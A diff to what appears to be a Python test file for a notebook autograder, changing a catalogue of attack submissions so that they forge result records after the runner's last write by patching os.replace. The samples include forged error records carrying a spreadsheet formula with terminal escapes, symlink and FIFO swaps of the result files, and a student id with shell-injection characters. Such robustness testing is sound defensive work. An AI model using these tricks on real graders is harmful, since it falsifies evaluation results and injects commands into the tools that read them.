@@ -185,22 +185,28 @@ def _nbformat3(path):
                                       "worksheets": [{"cells": [{"cell_type": "code", "input": "x = 1", "outputs": []}]}]}))
 
 
-def _at_exit(body):
-    """Code for the last solution cell that, when the runner has finished, rewrites records: ``last`` (the last
-    probe's) and ``before`` (the last solution cell's)."""
-    lines = "\n".join("    " + line for line in body.strip().splitlines())
-    return ("import atexit, json, os\n"
-            "def _forge():\n"
+def _once_the_runner_is_done(body):
+    """Code for the last solution cell that patches ``os.replace``, with which the runner puts each record in
+    place, so that once the runner has written its last record it rewrites records: ``last`` (the last probe's)
+    and ``before`` (the last solution cell's). (The runner leaves without running atexit, so this is how a
+    submission acts after its last record.)"""
+    lines = "\n".join("        " + line for line in body.strip().splitlines())
+    return ("import json, os\n"
+            "_replace, _expected = os.replace, len(json.load(open('job.json'))['cells'])\n"
+            "def _forge_when_done(source, target):\n"
+            "    _replace(source, target)\n"
             "    names = sorted(n for n in os.listdir('results') if n.endswith('.json'))\n"
-            "    last, before = (os.path.join('results', name) for name in names[-1:-3:-1])\n"
+            "    if len(names) == _expected:\n"
+            "        os.replace = _replace\n"
+            "        last, before = (os.path.join('results', name) for name in names[-1:-3:-1])\n"
             f"{lines}\n"
-            "atexit.register(_forge)\n"
+            "os.replace = _forge_when_done\n"
             "def one_query_scores(q, K):\n"
             "    return K.T @ q\n")
 
 
 _FORMULA = "=HYPERLINK(\"http://example.org/?\"&A1,\"click\")\x1b[31m\x1b]0;owned\x07"
-_FORGED_ERROR = _at_exit(f"""
+_FORGED_ERROR = _once_the_runner_is_done(f"""
 record = json.load(open(last))
 record['cases'] = [{{'error_message': {_FORMULA!r}, 'error_type': 'ValueError'}} for _ in record['cases']]
 json.dump(record, open(last, 'w'))
@@ -208,17 +214,27 @@ record = json.load(open(before))
 record['output'] = 'x' * 2_000_000
 json.dump(record, open(before, 'w'))
 """)
-_FORGED_DTYPE = _at_exit("""
+_FORGED_DTYPE = _once_the_runner_is_done("""
 record = json.load(open(last))
 for case in record['cases']:
     case['value'] = {'array': {'shape': [1], 'data': ['x'], 'dtype': 'U268435456'}}
 json.dump(record, open(last, 'w'))
 """)
-_RESULTS_LINKED = _at_exit("""
+# What the runner would run after its last record if it left the usual way: it does not (``runner.leave``).
+_AT_EXIT = ("import atexit, json, os\n"
+            "def _forge():\n"
+            "    last = os.path.join('results', sorted(os.listdir('results'))[-1])\n"
+            "    record = json.load(open(last))\n"
+            "    record['cases'] = [{'error_message': 'forged', 'error_type': 'ValueError'} for _ in record['cases']]\n"
+            "    json.dump(record, open(last, 'w'))\n"
+            "atexit.register(_forge)\n"
+            "def one_query_scores(q, K):\n"
+            "    return K.T @ q\n")
+_RESULTS_LINKED = _once_the_runner_is_done("""
 os.rename('results', 'kept')
 os.symlink('kept', 'results')
 """)
-_RESULT_FIFO = _at_exit("""
+_RESULT_FIFO = _once_the_runner_is_done("""
 os.remove(last)
 os.mkfifo(last)
 """)
@@ -320,13 +336,15 @@ CATALOGUE = [
            (P, P, P, P), damage=_json_edit(lambda d: _solution_cell(d).update(source="".join(_solution_cell(d)["source"]) + "\n# \ud800"))),
     Attack("lone_surrogate_in_output", "a right answer that prints a lone surrogate and terminal escapes",
            (P, P, P, P), {"inner_product": "print('\\ud800 \\x1b[2J\\x1b[31m red')\ndef inner_product(q, k):\n    return float(q @ k)"}),
-    Attack("forged_error_record", "rewrites its last record at exit: a spreadsheet formula with terminal escapes as "
+    Attack("forged_error_record", "rewrites its last record once the runner has written it: a spreadsheet formula with terminal escapes as "
            "the error, 2 MB of output", (P, P, P, E), {"one_query_scores": _FORGED_ERROR}),
-    Attack("forged_dtype", "rewrites its last record at exit with an array of dtype U268435456",
+    Attack("forged_at_exit", "registers with atexit a rewrite of its last record as an error",
+           (P, P, P, P), {"one_query_scores": _AT_EXIT}),
+    Attack("forged_dtype", "rewrites its last record once written, with an array of dtype U268435456",
            (P, P, P, X), {"one_query_scores": _FORGED_DTYPE}),
-    Attack("results_replaced_by_link", "replaces the results folder by a symbolic link at exit",
+    Attack("results_replaced_by_link", "replaces the results folder by a symbolic link once the runner is done",
            (X, X, X, X), {"one_query_scores": _RESULTS_LINKED}),
-    Attack("result_replaced_by_fifo", "replaces its last result file by a FIFO at exit",
+    Attack("result_replaced_by_fifo", "replaces its last result file by a FIFO once the runner is done",
            (P, P, P, X), {"one_query_scores": _RESULT_FIFO}),
     Attack("glob_and_shell_id", "a student id with glob and shell characters",
            (P, P, P, P), student="attack-[g]lob*?$(x);&'"),
